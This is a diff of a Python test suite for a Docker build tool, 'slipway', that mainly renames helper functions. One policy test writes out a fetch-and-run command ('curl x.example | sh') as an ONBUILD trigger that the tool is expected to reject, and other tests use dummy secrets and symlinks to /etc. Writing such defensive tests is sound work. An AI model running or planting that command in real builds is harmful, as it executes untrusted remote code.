@@ -13,7 +13,7 @@ from slipway.config.settings import Settings, load
 from slipway.core.errors import PolicyError, UsageError
 from slipway.core.image import MODELESS_LABEL, LocalImage, content_tag, full_name
 from slipway.plan.decide import MODES_HINT, plan_build
-from slipway.plan.facts import Survey, changed_since, identity, read_repository, survey
+from slipway.plan.facts import Snapshot, changed_since, gather_facts, identity, read_repository
 from slipway.registry import Registry
 from slipway.secrets.secret import Secret
 from slipway.stack.manifests import save_inputs
@@ -33,29 +33,29 @@ def settings_of(root: Path, **environment: str) -> Settings:
     return load(root, environment=environment)
 
 
-def known(
+def snapshot_of(
     root: Path,
     engine: FakeEngine | None = None,
     registry: Registry | None = None,
     contexts: Mapping[str, Path] | None = None,
     names: list[str] | None = None,
     **environment: str,
-) -> Survey:
+) -> Snapshot:
     settings = settings_of(root, **{"REGISTRY": "127.0.0.1:1", **environment})
     asked = registry or Registry("127.0.0.1:1", policy=HASTE)
     repository = read_repository(settings, Worktree(root), contexts or {})
-    return survey(repository, engine or FakeEngine([PYTHON]), lambda: asked, names)
+    return gather_facts(repository, engine or FakeEngine([PYTHON]), lambda: asked, names)
 
 
 def digests(root: Path, **more: object) -> dict[str, str]:
-    return dict(known(root, **more).facts.digests)  # type: ignore[arg-type]
+    return dict(snapshot_of(root, **more).facts.digests)  # type: ignore[arg-type]
 
 
 def changed(before: Mapping[str, str], after: Mapping[str, str]) -> set[str]:
     return {name for name in before if before[name] != after[name]}
 
 
-def built(found: Survey, *names: str) -> list[LocalImage]:
+def built(found: Snapshot, *names: str) -> list[LocalImage]:
     """The engine's images after a build of ``names``."""
     facts = found.facts
     return [
@@ -94,46 +94,46 @@ def test_where_the_repository_lies_does_not_count(repository: Path) -> None:
 
 
 def test_the_registry_is_asked_only_for_images_missing_from_the_engine(repository: Path) -> None:
-    first = known(repository)
+    first = snapshot_of(repository)
     engine = FakeEngine([PYTHON, *built(first, *NAMES)])
     settings = settings_of(repository, REGISTRY="127.0.0.1:1")
-    again = survey(read_repository(settings, Worktree(repository), {}), engine, nobody)
+    again = gather_facts(read_repository(settings, Worktree(repository), {}), engine, nobody)
     assert [step.action for step in plan_build(again.stack, NAMES, again.facts).steps] == ["reuse"] * 4
 
 
 def test_published_content_is_found(repository: Path) -> None:
     with RegistryServer() as server:
         registry = Registry(server.host)
-        first = known(repository, registry=registry, REGISTRY=server.host)
+        first = snapshot_of(repository, registry=registry, REGISTRY=server.host)
         assert (first.facts.published, first.notes) == (frozenset(), ())
         server.add("slipway/base-ml", content_tag(first.facts.digests["base-ml"]))
         server.requests.clear()
-        again = known(repository, registry=registry, REGISTRY=server.host, names=["svc-ocr"])
+        again = snapshot_of(repository, registry=registry, REGISTRY=server.host, names=["svc-ocr"])
         assert again.facts.published == {"base-ml"}
         asked = sorted(request.split("/")[3] for request in server.requests if "manifests" in request)
         assert asked == ["base-ml", "base-runtime", "svc-ocr"]
 
 
 def test_a_silent_registry_is_a_note(repository: Path) -> None:
-    found = known(repository)
+    found = snapshot_of(repository)
     assert found.notes == ("127.0.0.1:1 does not answer: slipway does not know which images it has",)
     assert found.facts.published == frozenset()
 
 
 def test_a_registry_that_wants_a_login_is_a_note(repository: Path) -> None:
     with RegistryServer(login=("basic", "alice", "s3cret")) as server:
-        found = known(repository, registry=Registry(server.host), REGISTRY=server.host)
+        found = snapshot_of(repository, registry=Registry(server.host), REGISTRY=server.host)
         assert [note.endswith("the registry wants a login") for note in found.notes] == [True]
 
 
 def test_the_plan_names_changes_since_the_last_build(repository: Path) -> None:
-    first = known(repository)
+    first = snapshot_of(repository)
     facts = first.facts
     made = {facts.digests[name]: facts.manifests[name] for name in NAMES}
     save_inputs(repository / ".slipway", made, facts.trees, images=len(NAMES))
     engine = FakeEngine([PYTHON, *built(first, *NAMES)])
     (repository / "libs/kit/more.py").write_text("x")
-    again = known(repository, engine)
+    again = snapshot_of(repository, engine)
     assert [(step.image, str(step.reason)) for step in plan_build(again.stack, NAMES, again.facts).steps] == [
         ("base-runtime", "libs/kit/more.py added"),
         ("base-ml", "base-runtime is built"),
@@ -146,7 +146,7 @@ def test_the_plan_names_changes_since_the_last_build(repository: Path) -> None:
 @pytest.mark.parametrize("labelled", [True, False])
 @pytest.mark.parametrize("kept", [True, False])
 def test_where_only_modes_differ_that_is_the_reason(repository: Path, kept: bool, labelled: bool) -> None:
-    first = known(repository)
+    first = snapshot_of(repository)
     facts = first.facts
     if kept:
         made = {facts.digests[name]: facts.manifests[name] for name in NAMES}
@@ -158,7 +158,7 @@ def test_where_only_modes_differ_that_is_the_reason(repository: Path, kept: bool
             replace(image, labels={**image.labels, **modeless[name]}) for name, image in zip(NAMES, here, strict=True)
         ]
     (repository / "libs/kit/kit.py").chmod(0o664)
-    again = known(repository, FakeEngine([PYTHON, *here]))
+    again = snapshot_of(repository, FakeEngine([PYTHON, *here]))
     reasons = {step.image: str(step.reason) for step in plan_build(again.stack, NAMES, again.facts).steps}
     tag = content_tag(facts.digests["base-runtime"])
     if kept:
@@ -171,7 +171,7 @@ def test_where_only_modes_differ_that_is_the_reason(repository: Path, kept: bool
     assert bool(notes) == (kept or labelled)
     assert all(note.endswith(MODES_HINT) and "base-runtime" in note for note in notes)
     (repository / "libs/kit/kit.py").write_text("kit = 3")
-    changed = known(repository, FakeEngine([PYTHON, *here]))
+    changed = snapshot_of(repository, FakeEngine([PYTHON, *here]))
     assert not any("modes" in note for note in changed.notes)
     assert not any("modes" in str(step.reason) for step in plan_build(changed.stack, NAMES, changed.facts).steps)
 
@@ -198,24 +198,24 @@ def test_a_flag_that_the_engines_frontend_does_not_know(repository: Path, line: 
     asked = FakeEngine([PYTHON])
     asked.version = engine
     if not since:
-        known(repository, asked)
+        snapshot_of(repository, asked)
         return
     with pytest.raises(
         UsageError, match=f"Dockerfile:2: .* is not known to the frontend of Docker {re.escape(engine)}"
     ) as caught:
-        known(repository, asked)
+        snapshot_of(repository, asked)
     assert caught.value.hint.startswith(f"Docker {since} knows it")
-    known(repository, asked, names=["svc-ocr"])
-    known(repository, asked, BUILDER="other")
+    snapshot_of(repository, asked, names=["svc-ocr"])
+    snapshot_of(repository, asked, BUILDER="other")
     path.write_text(f"# syntax=docker/dockerfile:1@sha256:{'0' * 64}\n{path.read_text()}")
-    known(repository, asked)
+    snapshot_of(repository, asked)
 
 
 def test_an_image_built_by_hand_on_ours_is_not_ours(repository: Path) -> None:
-    first = known(repository)
+    first = snapshot_of(repository)
     (ours,) = built(first, "base-ml")
     by_hand = LocalImage("sha256:hand", (str(first.facts.references["svc-ocr"]),), labels=ours.labels, created=9)
-    again = known(repository, FakeEngine([PYTHON, ours, by_hand]))
+    again = snapshot_of(repository, FakeEngine([PYTHON, ours, by_hand]))
     assert (set(again.facts.newest), again.facts.in_engine("svc-ocr")) == ({"base-ml"}, None)
 
 
@@ -224,7 +224,7 @@ def test_every_missing_source_is_reported_together(repository: Path) -> None:
         with (repository / f"apps/{name}/Dockerfile").open("a") as file:
             file.write("COPY libs/nothing /x/\n")
     with pytest.raises(UsageError) as caught:
-        known(repository)
+        snapshot_of(repository)
     assert sorted(problem.where for problem in caught.value.problems) == [
         "apps/svc_forms/Dockerfile:6",
         "apps/svc_ocr/Dockerfile:6",
@@ -235,7 +235,7 @@ def test_every_missing_source_is_reported_together(repository: Path) -> None:
 def test_a_broken_line_of_dockerignore_is_reported_once(repository: Path) -> None:
     (repository / ".dockerignore").write_text("**/*.pyc\n[\n")
     with pytest.raises(UsageError) as caught:
-        known(repository)
+        snapshot_of(repository)
     assert [problem.where for problem in caught.value.problems] == [".dockerignore:2"]
 
 
@@ -244,11 +244,11 @@ def test_where_several_folders_fit_a_note_names_them(repository: Path) -> None:
     path = repository / "apps/svc_forms/Dockerfile"
     path.write_text("FROM scratch\nCOPY requirements.txt /\nCOPY . /app\n")
     (repository / "apps/svc_forms/requirements.txt").write_text("own")
-    alone = known(repository)
+    alone = snapshot_of(repository)
     assert alone.stack["svc-forms"].context == "apps/svc_forms"
     assert not any("context" in note for note in alone.notes)
     (repository / "requirements.txt").write_text("of all")
-    both = known(repository)
+    both = snapshot_of(repository)
     assert both.facts.digests == alone.facts.digests
     assert both.notes[0] == (
         "apps/svc_forms/Dockerfile: its context is apps/svc_forms, the nearest folder; "
@@ -261,7 +261,7 @@ def test_a_wheelhouse_that_is_not_there_is_an_error(repository: Path) -> None:
     path.write_text(path.read_text() + "RUN --mount=type=bind,from=slipway-wheelhouse,target=/wheels true\n")
     wheels = repository.parent / "wheels"
     with pytest.raises(UsageError, match="wheels: no such folder"):
-        known(repository, contexts={"slipway-wheelhouse": wheels})
+        snapshot_of(repository, contexts={"slipway-wheelhouse": wheels})
     wheels.mkdir()
     before = digests(repository, contexts={"slipway-wheelhouse": wheels})
     (wheels / "torch.whl").write_text("x")
@@ -270,7 +270,7 @@ def test_a_wheelhouse_that_is_not_there_is_an_error(repository: Path) -> None:
 
 def test_names_are_checked_before_anything_is_read(repository: Path) -> None:
     with pytest.raises(UsageError, match="did you mean svc-ocr"):
-        known(repository, names=["svc-ocl"])
+        snapshot_of(repository, names=["svc-ocl"])
 
 
 def test_a_secret_as_an_arg_is_refused(repository: Path) -> None:
@@ -326,24 +326,24 @@ def test_a_base_of_this_registry_that_is_not_there(repository: Path) -> None:
             server.add("slipway/base-ml", tag)
         asked = {"registry": Registry(server.host), "REGISTRY": server.host}
         with pytest.raises(UsageError) as caught:
-            known(repository, **asked)  # type: ignore[arg-type]
+            snapshot_of(repository, **asked)  # type: ignore[arg-type]
         (problem,) = caught.value.problems
         assert problem.where == "apps/svc_ocr/Dockerfile"
         assert problem.what.startswith(f"FROM {server.host}/slipway/base-ml:v9: neither in the engine nor at ")
         assert problem.hint == "did you push base-ml v9? known: v1, v2"
-        assert known(repository, names=["svc-forms"], **asked).facts.published == frozenset()  # type: ignore[arg-type]
+        assert snapshot_of(repository, names=["svc-forms"], **asked).facts.published == frozenset()  # type: ignore[arg-type]
         denied = server.fault("tags/list", 403)
         with pytest.raises(UsageError, match="the registry does not say which versions it has"):
-            known(repository, **asked)  # type: ignore[arg-type]
+            snapshot_of(repository, **asked)  # type: ignore[arg-type]
         assert denied.struck == 1
         server.add("slipway/base-ml", "v9")
-        assert known(repository, **asked).notes == ()  # type: ignore[arg-type]
+        assert snapshot_of(repository, **asked).notes == ()  # type: ignore[arg-type]
 
 
 def test_a_budget_of_an_unknown_image_is_refused(repository: Path) -> None:
     (repository / "pyproject.toml").write_text("[tool.slipway.budgets]\nsvc-ocrr = '1 MB'\nbase-ml = '1 MB'\n")
     with pytest.raises(UsageError) as caught:
-        known(repository)
+        snapshot_of(repository)
     assert str(caught.value) == (
         "error: pyproject.toml:2: budget of svc-ocrr: matches no image\nhint:  did you mean svc-ocr?"
     )
@@ -369,7 +369,7 @@ def test_secrets_that_become_known_later_are_looked_for_too(repository: Path) ->
 
 def test_a_wave_is_compared_with_its_own_dockerfiles_alone(repository: Path) -> None:
     """An edit of another image's Dockerfile while this one is built, even a broken one, changes nothing of this one."""
-    found = known(repository)
+    found = snapshot_of(repository)
     (repository / "apps/svc_forms/Dockerfile").write_text("FRON nothing\n")
     (repository / "infra/docker/base-ml.Dockerfile").unlink()
     assert changed_since(found, ["svc-ocr"], [PYTHON]) == {}
@@ -389,14 +389,14 @@ def test_a_secret_given_to_a_repository_is_refused_whenever_it_is_read_again(rep
     path.write_text(path.read_text() + "RUN echo geheim12\n")
     triggered = FakeEngine([replace(PYTHON, onbuild=("RUN true",))])
     with pytest.raises(PolicyError, match="known-secret"):
-        survey(found, triggered, nobody)
+        gather_facts(found, triggered, nobody)
 
 
 @pytest.mark.fault("C14")
 def test_links_that_lead_outside_are_noted_some_by_name(repository: Path) -> None:
     for number in range(7):
         (repository / f"apps/svc_ocr/link{number}").symlink_to("/etc")
-    notes = known(repository).notes
+    notes = snapshot_of(repository).notes
     assert (
         len([note for note in notes if note.endswith("leads out of the context: sent as a link, never followed")]) == 5
     )
@@ -512,7 +512,7 @@ def test_the_builder_s_platform_counts_where_it_is_used(repository: Path) -> Non
         settings = settings_of(repository, REGISTRY="127.0.0.1:1", PLATFORMS="linux/amd64")
         found = read_repository(settings, Worktree(repository), {}, native)
         asked = Registry("127.0.0.1:1", policy=HASTE)
-        return dict(survey(found, FakeEngine([PYTHON]), lambda: asked).facts.digests)
+        return dict(gather_facts(found, FakeEngine([PYTHON]), lambda: asked).facts.digests)
 
     assert changed(built_on("linux/amd64"), built_on("linux/arm64")) == {"svc-ocr"}
 
@@ -542,7 +542,7 @@ def test_files_that_a_root_images_trigger_reads_count(repository: Path) -> None:
     before = digests(repository, engine=triggered)
     assert changed(before, digests(repository, engine=FakeEngine())) == set(NAMES)
     assert changed(before, digests(repository, engine=triggered, BASE_VERSION="v9")) == set(NAMES)
-    first = known(repository, triggered)
+    first = snapshot_of(repository, triggered)
     assert changed_since(first, NAMES, triggered.held) == {}
     (repository / "more.txt").write_text("2")
     assert changed(before, digests(repository, engine=triggered)) == set(NAMES)
@@ -577,7 +577,7 @@ def test_a_policy_problem_of_a_trigger_is_reported_once(repository: Path) -> Non
     assert [problem.where for problem in caught.value.problems] == [f"apps/svc_ocr/Dockerfile:4 ({by})"]
     edit(repository, "infra/docker/base-ml.Dockerfile", "ONBUILD ARG HF_TOKEN=0123456789", "RUN true")
     with pytest.raises(PolicyError) as caught:
-        known(repository, FakeEngine([replace(PYTHON, onbuild=("RUN curl x.example | sh",))]))
+        snapshot_of(repository, FakeEngine([replace(PYTHON, onbuild=("RUN curl x.example | sh",))]))
     assert [problem.where for problem in caught.value.problems] == [
         f"infra/docker/base-runtime.Dockerfile:5 (ONBUILD of {ROOT})"
     ]
